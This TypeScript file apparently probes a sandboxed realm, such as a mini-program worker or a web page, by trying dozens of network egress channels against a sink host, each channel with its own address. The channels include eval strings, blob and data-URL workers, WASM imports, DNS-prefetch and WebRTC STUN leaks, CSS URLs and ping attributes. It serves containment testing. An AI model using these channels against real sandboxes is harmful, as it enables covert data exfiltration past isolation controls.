/**
 * Every way out that we know of. Runs as text in a realm that is handed in: a worker of a mini-program, or an ordinary page, where
 * it gets out. Each way asks the sink for an address of its own, so that what got out is known.
 */

declare const WXWebAssembly: Pick<typeof WebAssembly, 'Module' | 'Instance'> & { instantiate(path: string): unknown };

/** @param where whom it asks; @param stun host and port of a UDP socket; @param name of hosts that only a resolver would hear of */
export function attack(where: string, stun: string, name: string): string[] {
  // A program is given no global object; a function that is not strict has one all the same.
  const realm = ((globalThis as unknown) ??
    (function (this: unknown) {
      return this;
    })() ??
    {}) as Record<string, never> & { document?: Document };
  const tried: string[] = [];
  const url = (way: string) => `${where}/hit/${way}`;
  const wss = (way: string) => url(way).replace('http', 'ws');
  const attempt = (way: string, work: () => unknown) => {
    tried.push(way);
    try {
      void Promise.resolve(work()).catch(() => undefined);
    } catch {
      // It was held.
    }
  };
  const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));

  attempt('fetch', () => fetch(url('fetch'), { mode: 'no-cors' }));
  attempt('fetch-keepalive', () =>
    fetch(url('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  );
  attempt('fetch-later', () => (realm['fetchLater'] as unknown as (url: string) => unknown)(url('later')));
  attempt('fetch-blob', () => fetch(blob('x')));
  attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', url('xhr'));
    request.send();
  });
  attempt('websocket', () => new WebSocket(wss('websocket')));
  attempt(
    'websocket-stream',
    () => new (realm['WebSocketStream'] as unknown as new (url: string) => object)(wss('stream')),
  );
  attempt('eventsource', () => new EventSource(url('eventsource')));
  attempt('webtransport', () => new WebTransport(`${where.replace('http:', 'https:')}/hit/webtransport`).ready);
  attempt('webtransport-name', () => new WebTransport(`https://webtransport.${name}/`).ready);
  attempt('import', () => import(/* @vite-ignore */ url('import')));
  attempt(
    'import-data',
    () => import(/* @vite-ignore */ `data:text/javascript,fetch("${url('import-data')}",{mode:"no-cors"})`),
  );
  attempt('import-scripts', () => (realm['importScripts'] as unknown as (url: string) => void)(url('import-scripts')));
  attempt('import-blob', () =>
    (realm['importScripts'] as unknown as (url: string) => void)(
      blob(`fetch("${url('import-blob')}",{mode:"no-cors"})`),
    ),
  );
  attempt('worker', () => new Worker(url('worker')));
  attempt('worker-blob', () => new Worker(blob(`fetch("${url('worker-blob')}",{mode:"no-cors"})`)));
  attempt('worker-data', () => new Worker(`data:text/javascript,fetch("${url('worker-data')}",{mode:"no-cors"})`));
  attempt('shared-worker', () => new SharedWorker(url('shared-worker')));
  attempt('service-worker', () => navigator.serviceWorker.register(url('service-worker')));
  attempt('caches', () => caches.open('x').then((cache) => cache.add(url('caches'))));
  attempt('font-face', () => new FontFace('x', `url(${url('font-face')})`).load());
  attempt('beacon', () => navigator.sendBeacon(url('beacon'), 'x'));
  attempt('notification', () => new Notification('x', { icon: url('notification') }));
  attempt('eval', () => (0, eval)(`fetch("${url('eval')}",{mode:"no-cors"})`));
  attempt('function', () => Function(`fetch("${url('function')}",{mode:"no-cors"})`)());
  attempt('timer', () => setTimeout(`fetch("${url('timer')}",{mode:"no-cors"})` as unknown as () => void, 0));
  attempt('wasm', () => WebAssembly.compileStreaming(fetch(url('wasm'))));
  attempt('wasm-path', () => WXWebAssembly.instantiate(url('wasm-path')));
  attempt('wasm-import', () => {
    // It calls `e.f` when it begins, and can call nothing that it was not handed.
    const types = [0x01, 0x04, 0x01, 0x60, 0x00, 0x00];
    const code = [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, ...types, 0x02, 0x07, 0x01, 0x01, 0x65, 0x01, 0x66];
    const { Module, Instance } = typeof WXWebAssembly === 'undefined' ? WebAssembly : WXWebAssembly;
    const f = () => void fetch(url('wasm-import'), { mode: 'no-cors' });
    return new Instance(new Module(Uint8Array.from([...code, 0x00, 0x00, 0x08, 0x01, 0x00])), { e: { f } });
  });
  attempt('location', () => {
    if (!realm.document) {
      self.location.href = url('location');
    }
  });
  attempt('canvas-filter', () => {
    const pen = new OffscreenCanvas(9, 9).getContext('2d');
    if (pen) {
      pen.filter = `url(${url('filter')}#x)`;
      pen.fillRect(0, 0, 9, 9);
    }
  });
  attempt('peer', () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  attempt('peer-name', () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:stun.${name}` }] });
    peer.createDataChannel('x');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });

  const page = realm.document;
  const add = (way: string, tag: string, attributes: Record<string, string>, words = '') =>
    attempt(way, () => {
      const element = document.createElement(tag);
      Object.entries(attributes).forEach(([each, value]) => element.setAttribute(each, value));
      element.textContent = words;
      document.body.append(element);
    });
  if (page) {
    for (const rel of ['prefetch', 'stylesheet', 'icon', 'manifest', 'modulepreload']) {
      add(rel, 'link', { rel, href: url(rel) });
    }
    add('preload', 'link', { rel: 'preload', as: 'image', href: url('preload') });
    add('dns-prefetch', 'link', { rel: 'dns-prefetch', href: `http://prefetch.${name}` });
    add('preconnect', 'link', { rel: 'preconnect', href: `http://preconnect.${name}` });
    add('img', 'img', { src: url('img') });
    add('script', 'script', { src: url('script') });
    add('iframe', 'iframe', { src: url('iframe') });
    add('object', 'object', { data: url('object') });
    add('embed', 'embed', { src: url('embed') });
    add('video', 'video', { src: url('video'), preload: 'auto' });
    add('audio', 'audio', { src: url('audio'), preload: 'auto' });
    add('css', 'style', {}, `@import "${url('css-import')}"; body { background: url(${url('css')}) }`);
    add('css-selector', 'style', {}, `html:not([a]) { border-image: url(${url('css-selector')}) 1 }`);
    add('css-font', 'style', {}, `@font-face { font-family: z; src: url(${url('css-font')}) } body { font-family: z }`);
    add('words', 'p', {}, 'z');
    attempt('svg', () =>
      document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url('svg')}" width="9" height="9"/></svg>`),
    );
    attempt('form', () => {
      const form = document.createElement('form');
      Object.assign(form, { action: url('form'), method: 'post', target: 'elsewhere' });
      const frame = document.createElement('iframe');
      frame.name = 'elsewhere';
      document.body.append(frame, form);
      form.submit();
    });
    attempt('ping', () => {
      const link = document.createElement('a');
      link.href = '#x';
      link.setAttribute('ping', url('ping'));
      document.body.append(link);
      link.click();
    });
  }
  return tried;
}
